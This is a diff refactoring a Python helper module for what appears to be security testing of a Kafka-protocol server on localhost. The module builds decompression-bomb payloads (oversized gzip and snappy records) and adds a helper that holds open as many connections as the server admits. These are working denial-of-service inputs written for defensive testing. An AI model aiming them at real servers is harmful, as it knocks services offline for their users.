@@ -3,6 +3,7 @@
 In: values. Out: bytes, or what a server answered. Opens connections to 127.0.0.1 only, from the address an attack names.
 """
 
+import contextlib
 import socket
 import struct
 import zlib
@@ -22,8 +23,7 @@ def crc32c(data):
     return crc ^ 0xFFFFFFFF
 
 
-def zigzag(number):
-    number = (number << 1) ^ (number >> 63)
+def varint(number):
     out = bytearray()
     while number > 127:
         out.append(number & 127 | 128)
@@ -32,10 +32,14 @@ def zigzag(number):
     return bytes(out)
 
 
-def gzip_of(head, fill, count):
-    """A gzip stream of `head` and then `count` times the bytes `fill`."""
+def zigzag(number):
+    return varint((number << 1) ^ (number >> 63))
+
+
+def gzip_of(head, fill, count, tail=b""):
+    """A gzip stream of `head`, then `count` times the bytes `fill`, then `tail`."""
     packer = zlib.compressobj(9, wbits=31)
-    out = [packer.compress(head)] + [packer.compress(fill) for _ in range(count)]
+    out = [packer.compress(head)] + [packer.compress(fill) for _ in range(count)] + [packer.compress(tail)]
     return b"".join(out) + packer.flush()
 
 
@@ -52,10 +56,7 @@ def huge_record(mebibytes):
     value = mebibytes << 20
     rest = b"\0" + zigzag(0) + zigzag(0) + zigzag(-1) + zigzag(value)
     head = zigzag(len(rest) + value + 1) + rest
-    packer = zlib.compressobj(9, wbits=31)
-    out = [packer.compress(head)] + [packer.compress(b"x" * (1 << 20)) for _ in range(mebibytes)]
-    out += [packer.compress(zigzag(0)), packer.flush()]
-    return batch(b"".join(out), 1, "gzip")
+    return batch(gzip_of(head, b"x" * (1 << 20), mebibytes, zigzag(0)), 1, "gzip")
 
 
 def kafka(key, version, body, client=b"attack"):
@@ -75,6 +76,17 @@ def connect(port, source="127.0.0.1", timeout=10):
     conn.settimeout(timeout)
     conn.connect(("127.0.0.1", port))
     return conn
+
+
+@contextlib.contextmanager
+def held(port, count, source):
+    """Connections that stay open for a while: so many as the server lets in."""
+    with contextlib.ExitStack() as stack:
+        conns = []
+        for _ in range(count):
+            with contextlib.suppress(OSError):
+                conns.append(stack.enter_context(connect(port, source)))
+        yield conns
 
 
 def call_kafka(conn, request):
@@ -107,13 +119,7 @@ def error_of_produce(answer):
 
 def snappy_of_pairs(pair, total):
     """A raw snappy block of `total` bytes: two bytes, then copies of them."""
-    size = total
-    out = bytearray()
-    while size > 127:
-        out.append(size & 127 | 128)
-        size >>= 7
-    out.append(size)
-    out += bytes([1 << 2]) + pair
+    out = bytearray(varint(total) + bytes([1 << 2]) + pair)
     copies, rest = divmod(total - 2, 64)
     out += bytes([63 << 2 | 2, 2, 0]) * copies
     if rest:
